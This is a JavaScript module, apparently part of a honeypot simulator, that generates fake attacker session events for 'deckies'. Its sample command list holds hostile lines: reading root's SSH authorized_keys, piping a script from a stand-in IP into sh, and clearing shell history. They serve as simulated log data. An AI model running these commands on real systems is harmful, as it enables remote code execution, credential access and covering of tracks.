// What is done on deckies while somebody looks, and the secrets of ours that were tried there.
import { addressOf, iso, uuid } from './sessions.mjs';

const typed = ['ls -la', 'cat /root/.ssh/authorized_keys', 'curl -s http://198.51.100.9/k | sh', 'history -c'];
const used = ['logged_in', 'command', 'query', 'upload', 'download', 'fetch', 'forward'];

export const initial = () => ({
  deeds: [], // logs that came while the server ran, newest first
});

/** Has a client do something on a decky: stored, unless told otherwise, and said. */
export function act(state, send, deed) {
  const { type = 'command', decky = 'web-1', service = 'ssh', stored = true } = deed;
  const n = state.seq + 1;
  const s = state.deckySessions[0] ?? { id: uuid('5e5', 999), attacker_ip: addressOf(3) };
  const row = {
    id: deed.id ?? uuid('209', n),
    timestamp: iso(Date.now()),
    node: 'node-1',
    decky,
    service,
    event_type: type,
    attacker_ip: s.attacker_ip,
    session: s.id,
    number: n,
    summary: deed.summary ?? typed[n % typed.length],
    has_more: type === 'command',
  };
  if (stored) state.deeds.unshift(row);
  const severity = used.includes(type) ? 'low' : 'info';
  send(`decky.${decky}.traffic`, severity, { ...contactOf(row), type, number: n, summary: row.summary }, s.id, row.id);
  return row;
}

/** Who does what where, as in every event about it. */
export const contactOf = (row) => ({
  decky: row.decky,
  service: row.service,
  source_ip: row.attacker_ip,
  attacker_id: uuid('a77', 1),
  session: row.session,
  occurred_at: row.timestamp,
});

export const routes = {};
